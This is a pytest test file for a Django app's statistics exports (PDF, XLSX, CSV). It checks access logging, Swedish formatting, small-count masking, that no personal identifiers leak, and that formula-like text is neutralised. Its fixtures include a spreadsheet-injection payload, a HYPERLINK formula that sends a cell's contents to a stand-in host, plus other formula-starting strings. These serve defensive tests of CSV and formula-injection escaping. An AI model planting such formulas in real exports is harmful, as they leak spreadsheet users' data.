"""The report as PDF, XLSX and CSV: the same figures as the page, who made it and when, no formula.

Reads the files back as a person's program would: the PDF's text with pypdf, the workbook with
openpyxl, the CSV with the csv module.
"""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from reporting import exports
from reporting.models import Certification
from reporting.report import Cell, Share, build_report, period_from_code, period_from_dates
from sehoglandet.models import AccessLog, Municipality
from sehoglandet.spreadsheets import csv_safe
from tests import factories

from .test_report_views import H1, SECRET_FIRST_NAME, known_dataset, report_rows

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"Klicka")'


def export(client, file_format: str, query: dict | None = None):
    return client.get(reverse(f"reporting:report_{file_format}"), H1 if query is None else query)


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages).replace("\xa0", " ")


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def known(people):
    return known_dataset(people)


@pytest.fixture
def certified(people):
    """Nässjö's manager certified 2026 H1 with a comment that looks like a formula."""
    return Certification.objects.create(
        municipality=factories.municipality("nassjo"),
        period_start=date(2026, 1, 1),
        period_end=date(2026, 6, 30),
        follows_description=True,
        fte_as_agreed=True,
        comment=FORMULA,
        certified_by=people["chef.nassjo"],
    )


# The files as downloads


@pytest.mark.parametrize(
    ("file_format", "content_type", "filename"),
    [
        ("pdf", "application/pdf", "statistik-2026H1-alla.pdf"),
        ("xlsx", exports.XLSX_CONTENT_TYPE, "statistik-2026H1-alla.xlsx"),
        ("csv", "text/csv; charset=utf-8", "statistik-2026H1-alla.csv"),
    ],
)
def test_each_download_is_a_named_file_and_an_export_in_the_access_log(
    client_for, people, known, file_format, content_type, filename
):
    response = export(client_for("forbundschef"), file_format)

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    (row,) = report_rows()
    assert (row.user, row.action, row.object_id) == (people["forbundschef"], AccessLog.Action.EXPORT, file_format)
    assert row.purpose == "Statistik för Första halvåret 2026 (2026-01-01 – 2026-06-30), Alla kommuner"


def test_a_managers_download_holds_their_municipality_only(client_for, known):
    response = export(client_for("chef.nassjo"), "csv")

    assert response["Content-Disposition"] == 'attachment; filename="statistik-2026H1-nassjo.csv"'
    rows = csv_rows(response.content)
    assert ["Deltagare", "Aktiva någon gång under perioden", "6", "5", "1–3", "12"] in rows
    assert ["Om rapporten", "Kommun", "", "", "", "Nässjö"] in rows


@pytest.mark.parametrize("file_format", ["pdf", "xlsx", "csv"])
def test_a_bad_period_gives_the_page_with_the_error_and_no_file(client_for, known, file_format):
    response = export(
        client_for("forbundschef"), file_format, {"kind": "dates", "start": "2026-06-30", "end": "2026-01-01"}
    )

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Perioden slutar innan den börjar." in response.content.decode()
    assert report_rows() == []


@pytest.mark.parametrize("file_format", ["pdf", "xlsx", "csv"])
def test_a_download_without_a_period_asks_for_one(client_for, file_format):
    response = export(client_for("forbundschef"), file_format, {})

    assert response.status_code == 400
    assert "Rätta följande" in response.content.decode()
    assert report_rows() == []


# The PDF


def test_the_pdf_has_a_cover_the_figures_and_page_numbers(client_for, known, certified):
    text = pdf_text(export(client_for("forbundschef"), "pdf").content)

    assert "Statistik för SE-Höglandet" in text
    assert "Första halvåret 2026 (2026-01-01 – 2026-06-30)" in text
    assert "Alla kommuner" in text
    assert "Skapad av Ingrid Björk" in text
    assert "Målet är uppnått" in text
    assert "Aktiva någon gång under perioden 6 7 1–3 14" in text
    assert "Avslutade under perioden 4 1–3 0 5" in text
    assert "Antal från 1 till 3 visas som intervallet 1–3" in text
    assert "Per Sandberg" in text
    pages = len(PdfReader(io.BytesIO(export(client_for("forbundschef"), "pdf").content)).pages)
    assert f"Sida 2 av {pages}" in text


def test_the_pdf_draws_the_goal_and_caseload_charts(client_for, known):
    report = exports.present(build_report(period_from_code("2026H1")))

    charts = exports.charts(report)

    exit_chart, caseload_chart = charts  # no survey answers: no survey chart
    assert [(bar.label, bar.value.replace("\xa0", " "), bar.width) for bar in exit_chart.bars] == [
        ("Kvinnor", "100,0 %", 250.0),
        ("Män", "för få", None),  # one man exited: a row that says so, no bar
        ("Totalt", "80,0 %", 200.0),
    ]
    assert exit_chart.goal_x == 200 + 0.35 * 250
    nassjo = next(bar for bar in caseload_chart.bars if bar.label == "Nässjö")
    assert nassjo.value == "7 / 36"
    assert nassjo.marker == 200 + 250.0  # Nässjö has the most places: the scale's end


def test_the_pdf_never_holds_a_name_or_a_personnummer(client_for, known):
    text = pdf_text(export(client_for("forbundschef"), "pdf").content)

    assert SECRET_FIRST_NAME not in text
    assert not any(participant.person.identity_number[:8] in text.replace("-", "") for participant in known)


# The workbook


def test_the_workbook_has_a_sheet_per_table_with_numbers_as_numbers(client_for, known):
    workbook = load_workbook(io.BytesIO(export(client_for("forbundschef"), "xlsx").content))

    assert workbook.sheetnames[:3] == ["Om rapporten", "Deltagare", "Remisser"]
    assert {"Avslut", "Ålder vid inskrivning", "Mål", "Beläggning", "Enkät", "Intyganden"} <= set(workbook.sheetnames)
    about = workbook["Om rapporten"]
    assert about["B3"].value == "Första halvåret 2026 (2026-01-01 – 2026-06-30)"
    assert about["B5"].value == "Ingrid Björk"
    participants = workbook["Deltagare"]
    assert [cell.value for cell in participants[4]] == ["Aktiva någon gång under perioden", 6, 7, "1–3", 14]
    goals = workbook["Mål"]
    assert goals["E4"].value == pytest.approx(0.8)
    assert goals["E4"].number_format == "0.0%"


def test_no_workbook_cell_can_become_a_formula(client_for, known, certified):
    Municipality.objects.filter(code="eksjo").update(name="=1+2")

    content = export(client_for("forbundschef"), "xlsx").content

    workbook = load_workbook(io.BytesIO(content))
    comment = workbook["Intyganden"]["G4"]
    assert (comment.value, comment.data_type) == (f"'{FORMULA}", "s")
    eksjo = next(row[0] for row in workbook["Beläggning"].iter_rows(min_row=4) if row[0].value == "'=1+2")
    assert eksjo.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("comment", [FORMULA, "-1+2", "@SUM(A1)", "+1"])
def test_workbook_text_starting_like_a_formula_gets_an_apostrophe_as_in_the_csv(client_for, known, people, comment):
    Certification.objects.filter(municipality__code="nassjo").delete()
    Certification.objects.create(
        municipality=factories.municipality("nassjo"),
        period_start=date(2026, 1, 1),
        period_end=date(2026, 6, 30),
        follows_description=True,
        fte_as_agreed=True,
        comment=comment,
        certified_by=people["chef.nassjo"],
    )

    workbook = load_workbook(io.BytesIO(export(client_for("forbundschef"), "xlsx").content))

    cell = workbook["Intyganden"]["G4"]
    assert (cell.value, cell.data_type) == (csv_safe(comment), "s") == (f"'{comment}", "s")
    participants = workbook["Deltagare"]["B4"]  # numbers stay numbers
    assert (type(participants.value), participants.data_type) == (int, "n")


# The CSV


def test_the_csv_holds_every_table_row_with_semicolons_and_a_byte_order_mark(client_for, known):
    rows = csv_rows(export(client_for("forbundschef"), "csv").content)

    assert rows[0] == ["Tabell", "Rad", "Kvinnor", "Män", "Annat eller ej angivet", "Totalt"]
    assert rows[1] == ["Om rapporten", "Period", "", "", "", "Första halvåret 2026 (2026-01-01 – 2026-06-30)"]
    participants = [row[1:] for row in rows if row[0] == "Deltagare"]
    assert participants == [
        ["Aktiva någon gång under perioden", "6", "7", "1–3", "14"],
        ["Nya inskrivningar", "6", "7", "1–3", "14"],
        ["Aktiva vid periodens slut", "1–3", "6", "1–3", "9"],
        ["Varav i efterstöd vid slutet", "0", "0", "0", "0"],
        ["I kö vid periodens slut", "0", "0", "0", "0"],
        ["Avslutade under perioden", "4", "1–3", "0", "5"],
    ]
    assert ["Avslut per orsak", "Totalt", "4", "1–3", "0", "5"] in rows
    assert ["Mål och tid i insatsen", "Avslut till arbete eller studier", "100,0 %", "för få", "–", "80,0 %"] in rows
    assert ["Beläggning vid periodens slut", "Nässjö: aktiva", "", "", "", "7"] in rows
    assert ["Beläggning vid periodens slut", "Nässjö: platser", "", "", "", "36"] in rows
    assert all(len(row) == 6 for row in rows)


def test_no_csv_cell_can_become_a_formula(client_for, known):
    Municipality.objects.filter(code="eksjo").update(name="=1+2")

    rows = csv_rows(export(client_for("forbundschef"), "csv").content)

    assert ["Beläggning vid periodens slut", "'=1+2: aktiva", "", "", "", "2"] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+46", "'+46"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("1–3", "1–3"),
        ("Nässjö", "Nässjö"),
        (None, ""),
    ],
)
def test_csv_text_starting_like_a_formula_gets_an_apostrophe(text, safe):
    assert csv_safe(text) == safe


# What the figures look like


def test_a_share_of_a_small_group_is_left_out_but_the_total_is_shown():
    share = Share("Andel", {"woman": 2, "man": 10, "other": 0}, {"woman": 10, "man": 20, "other": 2})

    figures = exports.share_figures(share, 3)

    assert [figure.text.replace("\xa0", " ") for figure in figures] == ["för få", "50,0 %", "för få", "37,5 %"]


@pytest.mark.parametrize(
    ("period", "text"),
    [
        (period_from_code("2026H1"), "Första halvåret 2026 (2026-01-01 – 2026-06-30)"),
        (period_from_code("2025H2"), "Andra halvåret 2025 (2025-07-01 – 2025-12-31)"),
        (period_from_code("2026"), "Helåret 2026 (2026-01-01 – 2026-12-31)"),
        (period_from_dates(date(2026, 3, 1), date(2026, 5, 31)), "2026-03-01 – 2026-05-31"),
    ],
)
def test_the_period_is_described_in_words(period, text):
    assert exports.describe_period(period) == text


def test_counts_and_shares_get_swedish_formatting():
    figure = exports.percent_figure(Decimal("0.3574"))

    assert figure.text == "35,7\xa0%"
    assert exports.count_figure(Cell(12345), 3).text == "12\xa0345"
    assert exports.count_figure(Cell(2, masked=True), 3).text == "1–3"
